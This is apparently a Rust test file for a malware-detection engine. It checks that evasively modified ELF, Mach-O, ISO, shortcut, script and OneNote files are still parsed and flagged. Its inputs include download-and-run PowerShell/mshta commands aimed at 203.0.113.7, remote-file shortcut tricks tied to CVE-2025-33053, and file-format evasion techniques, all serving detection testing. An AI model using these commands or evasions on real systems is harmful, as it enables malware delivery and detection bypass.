//! Files in which a few bytes were changed so that systems and programs open them as before, and others are to misread
//! them.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test"
)]

use watchfire_analysis::{Analysis, Engine, Settings};
use watchfire_formats::executable::read;
use watchfire_formats::identify::media;
use watchfire_model::executable::{Executable, elf, mach_o as facts};
use watchfire_model::{Artifact, Budget, Hints, Origin};
use watchfire_testkit::archive::Zip;
use watchfire_testkit::compound::{Node, compound};
use watchfire_testkit::disc::{self, File};
use watchfire_testkit::executable::{Elf, mach_o};
use watchfire_testkit::office;
use watchfire_testkit::shortcut::Link;

fn elf(bytes: &[u8]) -> elf::Elf {
    match read(media::ELF, bytes, &Budget::default()) {
        (Some(Executable::Elf(elf)), _) => *elf,
        other => panic!("{other:?}"),
    }
}

fn analyze(name: &str, bytes: &[u8]) -> Analysis {
    let engine = Engine::new(Settings::default());
    let hints = Hints {
        name: Some(name.into()),
        ..Hints::default()
    };
    engine.analyze(Artifact::new(bytes, Origin::root(name), hints), &engine.budget())
}

/// The rules of what is found, and the names of what is in the file.
fn found(name: &str, bytes: &[u8]) -> (Vec<&'static str>, Vec<String>) {
    let analysis = analyze(name, bytes);
    let rules = analysis.findings.iter().map(|finding| finding.rule.0).collect();
    let root = format!("{name} ▸ ");
    let paths = analysis
        .artifacts
        .iter()
        .filter_map(|artifact| artifact.path.raw().strip_prefix(&root));
    (rules, paths.map(str::to_owned).collect())
}

#[test]
fn class_and_order_of_an_elf_file_are_those_that_fit() {
    let whole = Elf::default().build();
    let expected = elf(&whole);
    // Linux looks at neither, and at no version.
    for (class, order) in [(0, 2), (1, 1), (2, 2), (1, 2), (9, 9)] {
        let mut bytes = whole.clone();
        (bytes[4], bytes[5], bytes[6], bytes[20]) = (class, order, 7, 9);
        let found = elf(&bytes);
        assert_eq!((found.bits, found.big_endian), (64, false), "{class} {order}");
        assert_eq!(
            (&found.needed, &found.imports),
            (&expected.needed, &expected.imports),
            "{class} {order}"
        );
    }
}

#[test]
fn the_loaders_part_is_where_memory_has_it() {
    let mut bytes = Elf::default().build();
    let expected = elf(&bytes).needed;
    // The third segment; its place in the file is asked by nobody.
    let at = 64 + 2 * 56;
    assert_eq!(bytes[at], 2);
    bytes[at + 8..at + 16].copy_from_slice(&0x7fff_0000_u64.to_le_bytes());
    assert_eq!(elf(&bytes).needed, expected);
}

#[test]
fn short_digests_do_not_make_a_signature_fit() {
    let mut image = mach_o(&["/usr/lib/libSystem.B.dylib"]);
    // The command of the signature in the place of that of the version.
    let at = image
        .windows(4)
        .position(|window| window == 0x32_u32.to_le_bytes())
        .unwrap();
    let code = image.len();
    let be = |number: usize| (number as u32).to_be_bytes();
    let digests_at = 48;
    let mut directory = [
        be(0xfade_0c02),
        be(digests_at + 1),
        be(0x2_0100),
        be(0),
        be(digests_at),
        be(44),
    ]
    .concat();
    directory.extend([be(0), be(1), be(code)].concat());
    // Digests of one byte, SHA-256, one page.
    directory.extend([1, 2, 0, 0]);
    directory.extend([0; 8]);
    let at_digest = code + 12 + 8 + digests_at;
    directory.push(0);
    let blob = [be(0xfade_0cc0), be(20 + directory.len()), be(1), be(0), be(20)].concat();
    image[at..at + 16].copy_from_slice(
        &[0x1d_u32, 24, code as u32, (blob.len() + directory.len()) as u32]
            .map(u32::to_le_bytes)
            .concat(),
    );
    image.extend(blob);
    image.extend(directory);
    // One byte can be made to fit by trying.
    let matches = |image: &[u8]| -> Option<bool> {
        match read(media::MACH_O, image, &Budget::default()) {
            (Some(Executable::MachO(file)), _) => {
                let signature: &facts::CodeSignature = file.images[0].signature.as_ref().expect("a signature");
                signature.directories[0].pages_match
            }
            other => panic!("{other:?}"),
        }
    };
    for byte in 0..=255 {
        image[at_digest] = byte;
        assert_ne!(matches(&image), Some(true), "{byte}");
    }
}

#[test]
fn names_on_a_disc_are_those_that_people_see() {
    let script = b"MsgBox 1";
    let files = [File {
        name: "run.vbs",
        bytes: script,
        hidden: false,
    }];
    let plain = disc::iso(&files);
    assert_eq!(found("a.iso", &plain).1, ["run.vbs"]);
    // A mark of long names in the descriptor of the short ones, and nothing of long names.
    let mut marked = plain.clone();
    marked[16 * 2048 + 88..16 * 2048 + 91].copy_from_slice(b"%/E");
    marked[17 * 2048] = 3;
    assert_eq!(found("a.iso", &marked).1, ["RUN.VBS"]);
    // Two names for the same bytes.
    let mut twice = plain;
    let folder = 20 * 2048;
    let mut at = folder;
    while twice[at] != 0 {
        at += usize::from(twice[at]);
    }
    let last: Vec<u8> = twice[at - 48..at].to_vec();
    assert_eq!(last[0], 48, "the record of the file");
    twice[at..at + 48].copy_from_slice(&last);
    twice[at + 34] = b'b';
    assert_eq!(found("a.iso", &twice).1, ["run.vbs", "bun.vbs"]);
}

#[test]
fn the_first_address_of_a_shortcut_is_the_one_that_is_opened() {
    let rule = ["shortcut-remote-file"];
    let check = |text: &str| assert_eq!(found("a.url", text.as_bytes()).0, rule, "{text}");
    check("[InternetShortcut]\r\nURL=file://203.0.113.7/a.exe\r\nURL=https://example.com/\r\n");
    check("[InternetShortcut]\r\nURL=\"file://203.0.113.7/a.exe\"\r\n");
    // A program of the system that looks for another where it works (CVE-2025-33053).
    check(
        "[InternetShortcut]\r\nURL=C:\\Program Files\\Internet Explorer\\iediagcmd.exe\r\nWorkingDirectory=\\\\203.0.113.7@ssl@443\\DavWWWRoot\\x\r\n",
    );
    for path in [
        "\\\\?\\UNC\\203.0.113.7\\share\\a.exe",
        "\\\\.\\UNC\\203.0.113.7\\share\\a.exe",
        "\\\\3405803783\\share\\a.exe",
    ] {
        check(&format!("[InternetShortcut]\r\nURL=file:{path}\r\n"));
    }
}

#[test]
fn an_interpreter_is_one_however_its_path_is_written() {
    let arguments = "/c mshta http://203.0.113.7/a";
    for link in [
        Link::new().to("C:\\Windows\\System32\\cmd.exe."),
        Link::new().to("C:\\Windows\\System32\\CMD.EXE "),
        Link::new().relative("..\\..\\..\\Windows\\System32\\cmd.exe"),
        Link::new().environment("%ComSpec%"),
    ] {
        let (rules, _) = found("a.lnk", &link.arguments(arguments).build());
        assert_eq!(rules.first(), Some(&"shortcut-runs-interpreter"), "{rules:?}");
    }
}

#[test]
fn streams_of_a_compound_file_are_found_in_any_case() {
    let object = office::native("a.vbs", b"MsgBox 1");
    let file = compound(&[
        Node::Stream("WordDocument".to_owned(), vec![0; 2000]),
        Node::Storage(
            "ObjectPool".to_owned(),
            vec![Node::Stream("\u{1}oLE10nATIVE".to_owned(), object)],
        ),
    ]);
    assert_eq!(found("a.doc", &file).1, ["a.vbs"]);
}

#[test]
fn a_script_is_one_by_its_name_whatever_it_begins_with() {
    let script = "new ActiveXObject(\"WScript.Shell\").Run(\"powershell iwr http://203.0.113.7/a.exe\")\n";
    let batch = "powershell -c \"iwr http://203.0.113.7/a.exe -OutFile a.exe; start a.exe\"\r\nexit /b\r\n";
    let zip = Zip::new().stored("a.txt", b"hello").build();
    for (name, bytes) in [
        ("a.js", [b"<!--x--><html>\n", script.as_bytes()].concat()),
        ("a.js", [b"[\"a\"];\n", script.as_bytes(), b"[]"].concat()),
        ("a.js", [b"From:\nTo:\nSubject:\n", script.as_bytes()].concat()),
        (
            "a.js",
            [b"/*\nrule a {\n condition:\n}*/\n", script.as_bytes()].concat(),
        ),
        ("a.js", [b"// %PDF-1.4\n", script.as_bytes()].concat()),
        ("A.JS", [b"GIF89a=1;\n", script.as_bytes()].concat()),
        (
            "a.ps1",
            b"#!/bin/sh\nstart-process x; iwr http://203.0.113.7/a.exe\n".to_vec(),
        ),
        ("a.bat ", [batch.as_bytes(), &zip].concat()),
        ("a.hta", [b"<html><script>", script.as_bytes(), b"</script>"].concat()),
    ] {
        let (rules, _) = found(name, &bytes);
        assert!(rules.contains(&"script-downloads-and-runs"), "{name} {rules:?}");
    }
    // Nor does it become a mere text by its length.
    let long = format!("{script}/*{}*/", "x".repeat(400_000));
    let engine = Engine::new(Settings::default());
    let hints = Hints {
        name: Some("a.js".into()),
        ..Hints::default()
    };
    let origin = Origin::root("a.js");
    let read = engine
        .analyze_stream(&mut long.as_bytes(), origin, hints, 1, &engine.budget())
        .unwrap();
    assert!(
        read.findings
            .iter()
            .any(|finding| finding.rule.0 == "script-downloads-and-runs")
    );
    // Bytes that were met under another name first are read for this one.
    let twice = Zip::new()
        .stored("a.txt", script.as_bytes())
        .stored("b.js", script.as_bytes())
        .build();
    let (rules, _) = found("a.zip", &twice);
    assert!(rules.contains(&"script-downloads-and-runs"), "{rules:?}");
}

#[test]
fn a_file_around_others_hides_none_of_them() {
    let script = b"MsgBox 1\r\n";
    let plain = disc::notebook("text", &[("a.vbs", script)]);
    let mark = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
    let at = plain.windows(16).position(|window| window == mark).unwrap();
    // From here to the mark that ends the real one.
    let length = (plain.len() - 16 - at) as u64;
    let decoy = [&mark[..], &length.to_le_bytes(), &[0; 12]].concat();
    let hidden = [&plain[..at], &decoy, &plain[at..]].concat();
    let carried = |notebook: &[u8]| -> Vec<u64> {
        let analysis = analyze("a.one", notebook);
        analysis
            .artifacts
            .iter()
            .skip(1)
            .map(|artifact| artifact.size)
            .collect()
    };
    assert_eq!(carried(&plain), [10]);
    assert!(carried(&hidden).contains(&10), "{:?}", carried(&hidden));
}
